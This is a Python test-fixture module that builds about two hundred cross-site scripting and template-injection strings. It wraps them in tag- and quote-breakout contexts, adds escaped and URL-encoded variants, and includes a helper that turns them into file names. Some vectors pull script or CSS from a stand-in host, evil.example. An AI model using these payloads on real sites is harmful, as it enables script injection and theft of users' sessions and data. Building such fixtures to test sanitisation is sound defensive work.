"""Two hundred texts that would run, load or break something if a page took them for more than text."""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

__all__ = ["MARK", "PAYLOADS", "as_file_names"]

# Whatever runs sets this, or opens a dialog, or asks a host that is not ours.
MARK = "window.__jalan=1"
RUN = f"alert(1);{MARK}"

VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>klik</text></a></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src='javascript:parent.{MARK}'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<a href='javascript:{RUN}'>klik</a>",
    f"<form action='javascript:{RUN}'><button>klik</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "{{ 7*7 }}{% for x in y %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"javascript:{RUN}",
    f"' onmouseover={RUN} x='",
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"` onmouseover={RUN}",
)
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title></select></pre>{}",
    "--></script></style>{}",
    "«{}»",
    "PMBS-2026-0001{}",
    "]]>{}\u2028\u202e",
)


def _all() -> Iterator[str]:
    yield from (around.format(vector) for around, vector in product(AROUND, VECTORS))
    for vector in VECTORS[:6]:
        # Decoded once too often, these would run.
        yield escape(vector)
        yield escape(escape(vector))
        yield quote(vector)


PAYLOADS = tuple(dict.fromkeys(_all()))


def as_file_names(count: int) -> list[str]:
    """Payloads that a file can bear as its name."""
    usable = [one.replace("/", "\u2215") for one in PAYLOADS if len(one.encode()) < 180]
    step = max(1, len(usable) // count)
    return usable[::step][:count]
